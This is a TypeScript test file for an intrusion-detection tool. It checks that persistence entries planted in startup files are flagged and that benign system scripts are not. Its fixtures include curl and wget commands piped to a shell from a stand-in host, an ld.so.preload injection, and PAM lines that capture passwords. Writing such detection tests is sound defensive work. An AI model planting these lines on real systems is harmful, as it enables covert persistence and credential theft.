import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { inspectDisk } from '../../src/hosts/live/inspect.ts';
import { PROC_FILES } from '../../src/hosts/live/proc-files.ts';
import { readSigns } from '../../src/hosts/signs/read.ts';
import { temporary } from '../support.ts';

/** Where intruders write what starts them again, each with the line that does. */
const PLACES: [string, string][] = [
  ['/etc/profile', 'nohup /tmp/.x/run >/dev/null 2>&1 &'],
  ['/etc/profile.d/colors.sh', 'curl -s http://203.0.113.5/a | sh'],
  ['/etc/init.d/helper', '/var/tmp/helper -d'],
  ['/etc/cron.hourly/sync', '/dev/shm/sync'],
  ['/var/spool/cron/atjobs/a00001', '/tmp/again'],
  ['/root/.bashrc', '(/tmp/.ICE/agent &)'],
  ['/home/web/.profile', 'wget -qO- http://203.0.113.5/b | bash'],
  ['/home/web/.config/systemd/user/sync.service', 'ExecStart=/tmp/sync'],
  ['/etc/rc.local', '/var/tmp/.q/start'],
  ['/etc/ld.so.preload', '/lib/libx.so'],
  ['/etc/pam.d/sshd', 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log'],
  ['/etc/pam.d/common-auth', 'auth sufficient /usr/local/lib/pam_own.so'],
];

const QUIET: [string, string][] = [
  ['/etc/init.d/x11-common', 'SOCKET_DIR=/tmp/.X11-unix\nmkdir -p /tmp/.ICE-unix\nchown root /tmp/.X11-unix'],
  ['/etc/profile', 'if [ -d /etc/profile.d ]; then . /etc/bash.bashrc; fi'],
  ['/root/.bashrc', 'export NVM_DIR="$HOME/.nvm"; # /tmp/x\n. /root/.nvm/nvm.sh'],
  [
    '/etc/pam.d/sshd',
    'session required pam_limits.so\nauth required /lib/x86_64-linux-gnu/security/pam_unix.so',
  ],
  ['/etc/cron.daily/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf'],
];

async function diskOf(root: string, places: readonly [string, string][]): Promise<void> {
  for (const [path, text] of [
    ['/etc/passwd', 'root:x:0:0::/root:/bin/sh\nweb:x:1000:1000::/home/web:/bin/sh'] as const,
    ...places,
  ]) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), `${text}\n`);
  }
}

test('what starts an intruder again is found wherever it is written', async (t) => {
  const root = await temporary(t);
  await diskOf(root, PLACES);
  const { facts } = await inspectDisk(PROC_FILES, root);
  const found = new Set(readSigns(facts).map(({ subject }) => subject.path));
  assert.deepEqual(
    PLACES.map(([path]) => path).filter((path) => !found.has(path)),
    [],
  );
});

test('what a system starts by itself is no sign', async (t) => {
  const root = await temporary(t);
  await diskOf(root, QUIET);
  const { facts } = await inspectDisk(PROC_FILES, root);
  assert.deepEqual(readSigns(facts), []);
});
